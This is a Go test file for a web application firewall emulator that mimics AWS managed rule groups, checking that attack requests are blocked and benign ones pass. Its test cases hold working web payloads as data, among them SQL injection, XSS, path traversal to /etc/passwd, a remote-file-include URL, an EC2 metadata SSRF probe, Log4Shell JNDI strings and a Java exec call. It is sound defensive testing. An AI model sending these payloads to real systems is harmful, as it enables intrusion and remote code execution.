package crs

import (
	"context"
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/portcullis/portcullis/internal/waf"
)

var (
	loadOnce sync.Once
	shared   *Groups
	loadErr  error
)

func groups(tb testing.TB) *Groups {
	tb.Helper()
	loadOnce.Do(func() { shared, loadErr = New() })
	if loadErr != nil {
		tb.Fatalf("New: %v", loadErr)
	}
	return shared
}

func evaluator(tb testing.TB, name string) waf.ManagedEvaluator {
	tb.Helper()
	ev, err := groups(tb).CompileManaged("AWS", name, "", nil)
	if err != nil {
		tb.Fatalf("CompileManaged(%s): %v", name, err)
	}
	return ev
}

type req struct {
	method, path, query, body string
	header                    map[string]string
}

func (q req) build() *waf.Request {
	h := http.Header{}
	h.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")
	h.Set("Accept", "application/json")
	h.Set("Host", "api.example.com")
	for k, v := range q.header {
		if v == "" {
			h.Del(k)
			continue
		}
		h.Set(k, v)
	}
	m := q.method
	if m == "" {
		m = "GET"
		if q.body != "" {
			m = "POST"
		}
	}
	p := q.path
	if p == "" {
		p = "/prod/items"
	}
	return &waf.Request{Method: m, URIPath: p, RawQuery: q.query, Header: h, Body: []byte(q.body), SourceIP: "203.0.113.7"}
}

func names(ms []waf.ManagedRuleMatch) []string {
	var out []string
	for _, m := range ms {
		out = append(out, m.RuleName)
	}
	return out
}

func TestDetections(t *testing.T) {
	form := map[string]string{"Content-Type": "application/x-www-form-urlencoded"}
	jsonCT := map[string]string{"Content-Type": "application/json"}
	cases := []struct {
		group, want, label string
		r                  req
	}{
		{SQLi, "SQLi_QUERYARGUMENTS", "awswaf:managed:aws:sql-database:SQLi_QueryArguments", req{query: "id=1%27%20OR%20%271%27%3D%271"}},
		{SQLi, "SQLi_QUERYARGUMENTS", "", req{query: "id=1' OR '1'='1"}},
		{SQLi, "SQLi_BODY", "awswaf:managed:aws:sql-database:SQLi_Body", req{body: "user=admin'--&pass=x", header: form}},
		{SQLi, "SQLi_BODY", "", req{body: `{"id":"1 UNION SELECT password FROM users--"}`, header: jsonCT}},
		{SQLi, "SQLi_COOKIE", "awswaf:managed:aws:sql-database:SQLi_Cookie", req{header: map[string]string{"Cookie": "session=1' OR '1'='1"}}},
		{SQLi, "SQLi_URIPATH", "", req{path: "/prod/items/1%20AND%20sleep(5)"}},
		{Common, "CrossSiteScripting_BODY", "awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body", req{body: "<script>alert(1)</script>"}},
		{Common, "CrossSiteScripting_BODY", "", req{body: `{"c":"<img src=x onerror=alert(1)>"}`, header: jsonCT}},
		{Common, "CrossSiteScripting_QUERYARGUMENTS", "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments", req{query: "q=%3Cscript%3Ealert(1)%3C/script%3E"}},
		{Common, "CrossSiteScripting_COOKIE", "", req{header: map[string]string{"Cookie": "a=<script>alert(1)</script>"}}},
		{Common, "GenericLFI_QUERYARGUMENTS", "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments", req{query: "file=../../../../etc/passwd"}},
		{Common, "GenericLFI_URIPATH", "", req{path: "/prod/..%2f..%2f..%2fetc/passwd"}},
		{Common, "GenericRFI_QUERYARGUMENTS", "awswaf:managed:aws:core-rule-set:GenericRFI_QueryArguments", req{query: "page=http://192.168.1.10/shell.txt"}},
		{Common, "EC2MetaDataSSRF_QUERYARGUMENTS", "", req{query: "url=http://169.254.169.254/latest/meta-data/"}},
		{Common, "RestrictedExtensions_URIPATH", "", req{path: "/prod/backup.sql"}},
		{Common, "NoUserAgent_HEADER", "awswaf:managed:aws:core-rule-set:NoUserAgent_Header", req{header: map[string]string{"User-Agent": ""}}},
		{Common, "UserAgent_BadBots_HEADER", "awswaf:managed:aws:core-rule-set:BadBots_Header", req{header: map[string]string{"User-Agent": "Mozilla/5.0 nmap scripting engine"}}},
		{Common, "SizeRestrictions_BODY", "", req{body: "a=" + strings.Repeat("b", 9000), header: form}},
		{Common, "SizeRestrictions_QUERYSTRING", "", req{query: "a=" + strings.Repeat("b", 2100)}},
		{Common, "SizeRestrictions_URIPATH", "", req{path: "/prod/" + strings.Repeat("x", 1100)}},
		{KnownBadInputs, "Log4JRCE_HEADER", "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header", req{header: map[string]string{"X-Api-Version": "${jndi:ldap://x/a}"}}},
		{KnownBadInputs, "Log4JRCE_QUERYSTRING", "", req{query: "x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"}},
		{KnownBadInputs, "Log4JRCE_BODY", "", req{body: `{"name":"${jndi:ldap://x/a}"}`, header: jsonCT}},
		{KnownBadInputs, "JavaDeserializationRCE_BODY", "awswaf:managed:aws:known-bad-inputs:JavaDeserializationRCE_Body", req{body: "cmd=java.lang.Runtime.getRuntime().exec('id')", header: form}},
		{KnownBadInputs, "Host_localhost_HEADER", "awswaf:managed:aws:known-bad-inputs:Host_Localhost_Header", req{header: map[string]string{"Host": "localhost:8080"}}},
		{KnownBadInputs, "PROPFIND_METHOD", "awswaf:managed:aws:known-bad-inputs:Propfind_Method", req{method: "PROPFIND"}},
		{KnownBadInputs, "ExploitablePaths_URIPATH", "awswaf:managed:aws:known-bad-inputs:ExploitablePaths_URIPath", req{path: "/prod/WEB-INF/web.xml"}},
	}
	for _, c := range cases {
		t.Run(c.group+"/"+c.want, func(t *testing.T) {
			got := evaluator(t, c.group).Evaluate(c.r.build())
			i := slices.IndexFunc(got, func(m waf.ManagedRuleMatch) bool { return m.RuleName == c.want })
			if i < 0 {
				t.Fatalf("matches %v, want %s", names(got), c.want)
			}
			if got[i].Action != "BLOCK" {
				t.Errorf("action %q, want BLOCK", got[i].Action)
			}
			if c.label != "" && !slices.Equal(got[i].Labels, []string{c.label}) {
				t.Errorf("labels %v, want [%s]", got[i].Labels, c.label)
			}
		})
	}
}

func TestBenign(t *testing.T) {
	form := map[string]string{"Content-Type": "application/x-www-form-urlencoded"}
	jsonCT := map[string]string{"Content-Type": "application/json"}
	benign := []req{
		{},
		{query: "id=42&sort=name&order=asc"},
		{query: "q=O%27Brien%20and%20sons"},
		{query: "search=select%20a%20plan&page=2"},
		{query: "email=alice%40example.com&redirect=%2Fprod%2Fhome"},
		{body: `{"name":"Alice","tags":["a","b"],"bio":"I like <b>bold</b> text? no, plain text only."}`, header: jsonCT},
		{body: "title=Hello+world&content=Nothing+to+see+here.", header: form},
		{path: "/prod/users/123/orders", header: map[string]string{"Cookie": "session=abc123; theme=dark"}},
		{method: "DELETE", path: "/prod/items/9"},
		{header: map[string]string{"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc", "X-Request-Id": "7c9e6679-7425-40de-944b-e07fc1f66afe"}},
	}
	for _, g := range supported {
		ev := evaluator(t, g)
		for i, r := range benign {
			if got := ev.Evaluate(r.build()); len(got) != 0 {
				t.Errorf("%s: benign request %d %+v matched %v", g, i, r, names(got))
			}
		}
	}
}

func TestOrderAndGroupIsolation(t *testing.T) {
	// An XSS payload is not the SQLi group's business, and vice versa for Log4J.
	if got := evaluator(t, SQLi).Evaluate(req{query: "q=<script>alert(1)</script>"}.build()); slices.ContainsFunc(got, func(m waf.ManagedRuleMatch) bool { return strings.HasPrefix(m.RuleName, "CrossSite") }) {
		t.Errorf("SQLi group returned %v", names(got))
	}
	// Matches come back in AWS's rule order.
	got := evaluator(t, Common).Evaluate(req{query: "q=<script>alert(1)</script>", header: map[string]string{"User-Agent": ""}}.build())
	if len(got) < 2 || got[0].RuleName != "NoUserAgent_HEADER" {
		t.Errorf("order: %v", names(got))
	}
}

func TestUnsupported(t *testing.T) {
	g := groups(t)
	for _, c := range [][2]string{{"AWS", "AWSManagedRulesBotControlRuleSet"}, {"Acme", SQLi}} {
		_, err := g.CompileManaged(c[0], c[1], "", nil)
		if err == nil || !strings.Contains(err.Error(), "is not supported (supported: ") || !strings.Contains(err.Error(), c[1]) {
			t.Errorf("CompileManaged(%s, %s): err = %v", c[0], c[1], err)
		}
	}
	if _, err := g.CompileManaged("AWS", SQLi, "Version_2.0", []byte(`[{"LoginPath":"/x"}]`)); err == nil {
		t.Error("configs accepted")
	}
	if _, err := g.CompileManaged("AWS", SQLi, "Version_2.0", []byte(`null`)); err != nil {
		t.Error(err)
	}
}

func TestConcurrent(t *testing.T) {
	ev := evaluator(t, SQLi)
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range 20 {
				r := req{query: "id=1"}
				want := 0
				if i%2 == 0 {
					r, want = req{query: "id=1' OR '1'='1"}, 1
				}
				if got := ev.Evaluate(r.build()); (len(got) > 0) != (want > 0) {
					t.Errorf("goroutine %d: %v", i, names(got))
					return
				}
			}
		}()
	}
	wg.Wait()
}

// TestThroughACL runs the groups as the waf.Options.Managed hook of a compiled web ACL, with
// ExcludedRules and RuleActionOverrides applied by internal/waf.
func TestThroughACL(t *testing.T) {
	ruleJSON := func(prio int, name, extra string) string {
		return `{"Name":"AWS-` + name + `","Priority":` + string(rune('0'+prio)) + `,"OverrideAction":{"None":{}},"VisibilityConfig":{},` +
			`"Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"` + name + `"` + extra + `}}}`
	}
	raw := `{"Name":"main","Id":"1","ARN":"arn:aws:wafv2:us-east-1:123456789012:regional/webacl/main/1","DefaultAction":{"Allow":{}},"VisibilityConfig":{},"Rules":[` +
		ruleJSON(0, Common, `,"ExcludedRules":[{"Name":"NoUserAgent_HEADER"}]`) + "," +
		ruleJSON(1, SQLi, `,"RuleActionOverrides":[{"Name":"SQLiExtendedPatterns_QUERYARGUMENTS","ActionToUse":{"Count":{}}}]`) + "," +
		ruleJSON(2, KnownBadInputs, "") + `]}`
	acl, err := waf.CompileWithOptions(json.RawMessage(raw), waf.Sets{}, waf.Options{Managed: groups(t)})
	if err != nil {
		t.Fatal(err)
	}
	run := func(r req) waf.Result {
		res, err := acl.Evaluate(context.Background(), r.build(), waf.NewMemoryRateCounter())
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	// No User-Agent is excluded (counted), so a benign request is allowed but labelled.
	res := run(req{header: map[string]string{"User-Agent": ""}})
	if res.Action != "ALLOW" || !slices.Contains(res.Labels, "awswaf:managed:aws:core-rule-set:NoUserAgent_Header") {
		t.Errorf("excluded: %+v", res)
	}
	// SQLi: the extended-patterns rule is overridden to Count, libinjection's rule blocks.
	res = run(req{query: "id=1' OR '1'='1"})
	if res.Action != "BLOCK" || res.TerminatingRuleID != "AWS-"+SQLi || len(res.RuleGroupList) == 0 {
		t.Fatalf("sqli: %+v", res)
	}
	var term string
	for _, g := range res.RuleGroupList {
		if g.TerminatingRule != nil {
			term = g.TerminatingRule.RuleID
		}
	}
	if term != "SQLi_QUERYARGUMENTS" {
		t.Errorf("sqli terminating rule %q, groups %+v", term, res.RuleGroupList)
	}
	res = run(req{header: map[string]string{"X-Api-Version": "${jndi:ldap://x/a}"}})
	if res.Action != "BLOCK" || res.TerminatingRuleID != "AWS-"+KnownBadInputs {
		t.Errorf("log4j: %+v", res)
	}
	if res = run(req{query: "id=42"}); res.Action != "ALLOW" {
		t.Errorf("benign: %+v", res)
	}
}

func BenchmarkEvaluate(b *testing.B) {
	benign := req{query: "id=42&sort=name", body: `{"name":"Alice","qty":3}`, header: map[string]string{"Content-Type": "application/json", "Cookie": "session=abc"}}.build()
	attack := req{query: "id=1' OR '1'='1&q=<script>alert(1)</script>", header: map[string]string{"X-A": "${jndi:ldap://x/a}"}}.build()
	for _, g := range supported {
		ev := evaluator(b, g)
		for _, c := range []struct {
			n string
			r *waf.Request
		}{{"benign", benign}, {"attack", attack}} {
			b.Run(g+"/"+c.n, func(b *testing.B) {
				b.ReportAllocs()
				for b.Loop() {
					ev.Evaluate(c.r)
				}
			})
		}
	}
}
